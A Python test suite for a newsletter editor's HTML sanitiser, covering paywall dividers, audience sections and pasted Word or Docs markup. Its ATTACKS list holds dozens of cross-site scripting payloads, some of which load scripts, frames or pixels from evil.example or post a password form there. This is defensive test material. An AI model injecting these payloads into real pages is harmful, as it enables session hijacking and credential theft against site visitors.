"""What may be stored as a body: nothing that runs, nothing that disguises who may read it."""

from __future__ import annotations

import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from newsletter.articles.content.split import blocks_of, cut_for_web
from newsletter.articles.editor import sanitise_body
from newsletter.lib.html_tree import Node, parse, serialise

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="/media/x.png" onload="alert(1)" style="position:fixed">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="/x" onclick="alert(1)" target="_blank">x</a>',
    '<a href="/x" style="background:url(javascript:alert(1))">x</a>',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
        "onerror=alert(1)&gt;'>"
    ),
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=evil.swf></object>",
    "<embed src=evil.swf>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(https://evil.example/pixel)">x</p>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p id=main name=body class='button admin' data-controller=x>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<isindex action=javascript:alert(1)>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<section data-audience="members onmouseover=alert(1)">x</section>',
    "<code class=\"language-x onmouseover='alert(1)'\">x</code>",
    "<pre><code class='btn btn-danger'>x</code></pre>",
    '<ol start="1;alert(1)"><li>x</li></ol>',
    '<td colspan="1e9">x</td>',
    "<p>\u202egpj.exe</p>",
    "<marquee onstart=alert(1)>x</marquee>",
]
_ALLOWED_TAGS = {
    *("p", "h2", "h3", "ul", "ol", "li", "blockquote", "strong", "em", "s", "code", "pre", "a"),
    *("br", "hr", "table", "thead", "tbody", "tr", "th", "td", "section", "figure"),
    *("figcaption", "img", "span", "sup", "sub"),
}
_ALLOWED_ATTRIBUTES = {
    "a": {"href"},
    "hr": {"data-paywall"},
    "section": {"data-audience"},
    "figure": {"data-embed"},
    "blockquote": {"data-pull"},
    "p": {"data-button"},
    "span": {"data-footnote"},
    "img": {"src", "alt", "width", "height"},
    "ol": {"start"},
    "code": {"class"},
    "th": {"colspan", "rowspan"},
    "td": {"colspan", "rowspan"},
}


def assert_harmless(html: str) -> None:
    for node in parse(html).walk():
        assert node.tag in _ALLOWED_TAGS
        assert set(node.attrs) <= _ALLOWED_ATTRIBUTES.get(node.tag, set()), node
        for name in ("href", "src"):
            address = node.attrs.get(name, "")
            scheme = re.match(r"[\s\x00-\x20]*([a-z][a-z0-9+.-]*):", address, re.IGNORECASE)
            assert scheme is None or scheme.group(1).lower() in {"http", "https", "mailto"}
        if node.tag == "img":
            assert node.attrs["src"].startswith("/")
        assert node.attrs.get("data-audience", "web") in {"members", "email", "web"}
        assert re.fullmatch(r"language-[a-z0-9+#_-]+", node.attrs.get("class", "language-x"))
    assert "\u202e" not in html


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_loads_is_left(attack: str) -> None:
    cleaned = sanitise_body(f"<p>before</p>{attack}<p>after</p>")
    assert_harmless(cleaned)
    assert "alert(1)" not in re.sub(r">[^<]*<", "><", cleaned)
    assert "before" in cleaned


@pytest.mark.parametrize("attack", ATTACKS)
def test_cleaning_twice_changes_nothing(attack: str) -> None:
    once = sanitise_body(attack)
    assert sanitise_body(once) == once


_names = st.sampled_from(
    sorted(_ALLOWED_TAGS | {"div", "b", "i", "h1", "h4", "center", "script", "caption", "article"})
)
_texts = st.text(alphabet=" \n\u00a0abcé<>&\"'#-↩שלום\u200d👩", max_size=12)
_attributes = st.sampled_from(
    [
        "",
        ' href="/x"',
        ' href="https://example.com/?a=1&b=2"',
        ' src="/media/x.png" alt="A"',
        ' src="https://elsewhere.example/x.png"',
        " data-footnote",
        " data-pull",
        " data-embed",
        " data-button",
        " data-paywall",
        ' data-audience="members"',
        ' data-audience="email"',
        ' data-audience="web"',
        ' data-audience="everyone"',
        ' class="language-py"',
        ' style="font-weight: 700"',
        ' start="3" colspan="2" width="600"',
    ]
)


def _element(children: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    whole = st.builds(
        lambda name, attributes, inner: f"<{name}{attributes}>{''.join(inner)}</{name}>",
        _names,
        _attributes,
        st.lists(children, max_size=4),
    )
    # Half-open and misnested markup is what pasted text is made of.
    broken = st.builds(lambda name, attributes: f"<{name}{attributes}>", _names, _attributes)
    return whole | broken | _names.map(lambda name: f"</{name}>")


markup = st.recursive(_texts, _element, max_leaves=14)
thorough = settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@thorough
@given(markup)
def test_any_markup_comes_out_harmless_and_stays_as_it_is(html: str) -> None:
    once = sanitise_body(html)
    assert_harmless(once)
    assert sanitise_body(once) == once


@thorough
@given(markup)
def test_any_markup_comes_out_in_one_shape(html: str) -> None:
    root = parse(sanitise_body(html))
    assert all(isinstance(child, Node) for child in root.children)
    dividers = [node for node in root.walk() if "data-paywall" in node.attrs]
    assert len(dividers) <= 1
    for node in root.walk():
        if node.tag == "section" or node in dividers:
            assert any(node is child for child in root.children)
        if node.tag == "a":
            assert not any(below.tag == "a" for below in node.walk())
        if node.tag in {"p", "h2", "h3", "a", "strong"}:
            assert not any(below.tag in {"p", "ul", "table", "section"} for below in node.walk())


@thorough
@given(st.lists(markup, max_size=3), st.lists(markup, max_size=3))
def test_text_below_a_divider_is_never_public(above: list[str], below: list[str]) -> None:
    body = sanitise_body(f"{''.join(above)}</section><hr data-paywall>SECRET{''.join(below)}")
    public = serialise(cut_for_web(blocks_of(body), "paid").public)
    assert "SECRET" not in public


@thorough
@given(st.lists(markup, max_size=2))
def test_a_members_section_never_loses_its_audience(inside: list[str]) -> None:
    inner = re.sub(r"</?section[^>]*>", "", "".join(inside))
    for name in ("blockquote", "li", "td", "figure", "div", "pre", "h2"):
        html = f"<{name}><section data-audience=members>SECRET{inner}</section></{name}>"
        public = serialise(cut_for_web(blocks_of(sanitise_body(html)), "public").public)
        assert "SECRET" not in public, html


def test_ten_thousand_quotes_in_each_other_do_not_exhaust_anything() -> None:
    cleaned = sanitise_body("<blockquote>" * 10_000 + "deep" + "</blockquote>" * 10_000)
    assert "deep" in cleaned
    assert sanitise_body(cleaned) == cleaned


@pytest.mark.parametrize(
    ("pasted", "kept"),
    [
        # Word
        (
            '<p class="MsoNormal" style="margin:0"><b><span>Hi</span></b><o:p>&nbsp;</o:p></p>',
            "<p><strong>Hi</strong></p>",
        ),
        (
            "<!--[if gte mso 9]><xml><w:WordDocument></w:WordDocument></xml><![endif]--><p>Hi</p>",
            "<p>Hi</p>",
        ),
        ("<p>One</p><p>&nbsp;</p><p>Two</p>", "<p>One</p><p>Two</p>"),
        # Google Docs
        (
            (
                '<b style="font-weight:normal" id="docs-internal-guid-1"><p dir="ltr">'
                '<span style="font-weight:700">Bold</span>'
                '<span style="font-style:italic"> thin</span></p></b>'
            ),
            "<p><strong>Bold</strong><em> thin</em></p>",
        ),
        (
            "<ul><li>a</li><ul><li>b</li></ul></ul>",
            "<ul><li><p>a</p><ul><li><p>b</p></li></ul></li></ul>",
        ),
        # Mail and web
        ("<div>One<br></div><div>Two</div>", "<p>One</p><p>Two</p>"),
        ("<h1>Title</h1><h5>Small</h5>", "<h2>Title</h2><h3>Small</h3>"),
        ("plain text", "<p>plain text</p>"),
        ("<strike>no</strike> <del>no</del>", "<p><s>no</s> <s>no</s></p>"),
        (
            "<p><img src='/media/a.jpg' alt='A'></p>",
            '<figure><img alt="A" src="/media/a.jpg"></figure>',
        ),
        (
            "<p><img src='https://lh3.example/x' alt='A desk'></p>",
            '<p><a href="https://lh3.example/x">A desk</a></p>',
        ),
    ],
)
def test_pasted_text_is_put_right(pasted: str, kept: str) -> None:
    assert sanitise_body(pasted) == kept


EVERY_NODE = (
    "<h2>Heading</h2><h3>Smaller</h3>"
    "<p>A <strong>b</strong> <em>i</em> <s>s</s> <code>c</code> "
    '<a href="https://example.com/">l</a><span data-footnote="">A note.</span><br>next</p>'
    '<ul><li><p>one</p></li></ul><ol start="3"><li><p>three</p></li></ol>'
    '<blockquote><p>quote</p></blockquote><blockquote data-pull=""><p>pull</p></blockquote>'
    '<pre><code class="language-python">if x:\n    pass\n</code></pre><hr>'
    "<table><tbody><tr><th><p>h</p></th></tr><tr><td><p>d</p></td></tr></tbody></table>"
    '<figure><img alt="A desk" height="400" src="/media/images/x/desk.jpg" width="600">'
    "<figcaption>A desk. <em>By us</em></figcaption></figure>"
    '<figure data-embed=""><a href="https://video.example/1">A talk</a></figure>'
    '<p data-button=""><a href="/subscribe/">Subscribe</a></p>'
    '<section data-audience="members"><p>For members</p></section>'
    '<section data-audience="email"><p>In the mail</p></section>'
    '<section data-audience="web"><p>On the web</p></section>'
    '<hr data-paywall=""><p>Paid</p>'
)


def test_everything_the_editor_stores_is_kept_as_it_is() -> None:
    assert sanitise_body(EVERY_NODE) == EVERY_NODE


@pytest.mark.parametrize("audience", ["members", "email"])
@pytest.mark.parametrize("outer", ["members", "email", "web"])
def test_nested_sections_keep_the_narrower_audience(outer: str, audience: str) -> None:
    html = sanitise_body(
        f"<section data-audience={outer}><p>a</p>"
        f"<section data-audience={audience}><p>b</p></section><p>c</p></section>"
    )
    narrowest = "email" if "email" in {outer, audience} else "members"
    if outer == audience:
        expected = [(outer, "a"), (outer, "b"), (outer, "c")]
    else:
        expected = [(outer, "a"), (narrowest, "b"), (outer, "c")]
    found = [
        (section.attrs["data-audience"], paragraph.text())
        for section in parse(html).children
        if isinstance(section, Node)
        for paragraph in section.walk()
    ]
    assert found == expected


def test_of_two_dividers_the_first_counts() -> None:
    html = sanitise_body("<p>a</p><hr data-paywall><p>b</p><hr data-paywall><p>c</p>")
    assert html == '<p>a</p><hr data-paywall=""><p>b</p><p>c</p>'


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        (
            "<p>a</p><blockquote><p>b</p><hr data-paywall><p>c</p></blockquote><p>d</p>",
            '<p>a</p><hr data-paywall=""><blockquote><p>b</p><p>c</p></blockquote><p>d</p>',
        ),
        (
            "<ul><li>a<hr data-paywall></li></ul><p>b</p><hr data-paywall><p>c</p>",
            '<hr data-paywall=""><ul><li><p>a</p></li></ul><p>b</p><p>c</p>',
        ),
        (
            "<section data-audience=web><p>a</p><hr data-paywall><p>b</p></section>",
            (
                '<section data-audience="web"><p>a</p></section><hr data-paywall="">'
                '<section data-audience="web"><p>b</p></section>'
            ),
        ),
    ],
)
def test_a_divider_inside_a_block_moves_before_it(html: str, kept: str) -> None:
    assert sanitise_body(html) == kept


def test_code_keeps_its_lines() -> None:
    html = "<pre><code>\n  first\n\n  second\n</code></pre>"
    assert sanitise_body(html) == html
    assert sanitise_body("<pre> \n </pre>") == ""
